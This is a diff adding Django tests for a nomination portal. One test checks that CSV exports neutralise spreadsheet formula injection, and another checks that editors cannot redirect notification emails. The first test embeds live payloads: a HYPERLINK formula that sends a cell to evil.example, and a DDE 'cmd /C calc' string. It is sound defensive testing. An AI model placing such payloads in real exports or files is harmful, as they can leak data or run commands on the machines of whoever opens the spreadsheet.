@@ -201,3 +201,72 @@ def test_programme_admin_refuses_a_reserved_slug(client, superuser):
     assert response.status_code == 200
     assert response.content.decode().count("사이트에서 쓰는 주소입니다. 다른 주소를 정하세요.") == 1
     assert not Programme.objects.exists()
+
+
+def test_csv_exports_never_carry_a_formula(client, reviewer, nominations):
+    """OWASP CSV injection: what a firm typed is shown as text by a spreadsheet."""
+    nomination = nominations[0]
+    nomination.company = '=HYPERLINK("http://evil.example/?"&B2,"Open")'
+    nomination.city = "@SUM(1+1)"
+    nomination.writer_phone = "+82-2-120"
+    nomination.save()
+    trainee = nomination.trainees.get()
+    trainee.name, trainee.duties = "-2+3+cmd|' /C calc'!A0", "\t=1+1"
+    trainee.save()
+    client.force_login(reviewer)
+    post = {"_selected_action": [nomination.pk]}
+    rows = list(csv.reader(io.StringIO(client.post(
+        CHANGELIST, {**post, "action": "export_nominations_csv"}
+    ).content.decode("utf-8-sig"))))  # fmt: skip
+    assert rows[1][4] == '\'=HYPERLINK("http://evil.example/?"&B2,"Open")'
+    assert rows[1][7] == "'+82-2-120"
+    assert rows[1][9] == "'@SUM(1+1)"
+    rows = list(csv.reader(io.StringIO(client.post(
+        CHANGELIST, {**post, "action": "export_trainees_csv"}
+    ).content.decode("utf-8-sig"))))  # fmt: skip
+    assert rows[1][4] == "'@SUM(1+1)"
+    assert rows[1][6] == "'-2+3+cmd|' /C calc'!A0"
+    assert rows[1][8] == "'\t=1+1"
+
+
+def test_editors_cannot_redirect_nomination_announcements(client, programme, django_user_model):
+    """Finding 8: the notification address belongs to a separate role (and superusers)."""
+    from django.contrib.auth.models import Group
+
+    from archive_portal.groups import EDITORS, NOTIFICATION_MANAGERS, sync_staff_groups
+
+    sync_staff_groups()
+    users = django_user_model.objects
+    editor = users.create_user(username="ed", password="a-long-test-password", is_staff=True)
+    editor.groups.add(Group.objects.get(name=EDITORS))
+    manager = users.create_user(username="nm", password="a-long-test-password", is_staff=True)
+    manager.groups.add(Group.objects.get(name=NOTIFICATION_MANAGERS))
+    Programme.objects.filter(pk=programme.pk).update(
+        notification_email="", contact_email="team@seoul.go.kr"
+    )
+    programme.refresh_from_db()
+    url = f"/admin/training/programme/{programme.pk}/change/"
+
+    client.force_login(editor)
+    assert 'name="notification_email"' not in client.get(url).content.decode()
+    # Posting the field anyway changes nothing; changing the contact email keeps the
+    # announcements where they went.
+    same = {"slug": programme.slug, "reference_prefix": programme.reference_prefix}
+    post = programme_post(
+        **same, notification_email="thief@example.com", contact_email="thief@example.com"
+    )
+    response = client.post(url, post)
+    assert response.status_code == 302, response.context["adminform"].form.errors
+    programme.refresh_from_db()
+    assert (programme.contact_email, programme.notification_email) == (
+        "thief@example.com",
+        "team@seoul.go.kr",
+    )
+    assert programme.staff_email == "team@seoul.go.kr"
+
+    client.force_login(manager)
+    assert 'name="notification_email"' in client.get(url).content.decode()
+    response = client.post(url, programme_post(**same, notification_email="desk@seoul.go.kr"))
+    assert response.status_code == 302, response.context["adminform"].form.errors
+    programme.refresh_from_db()
+    assert programme.staff_email == "desk@seoul.go.kr"
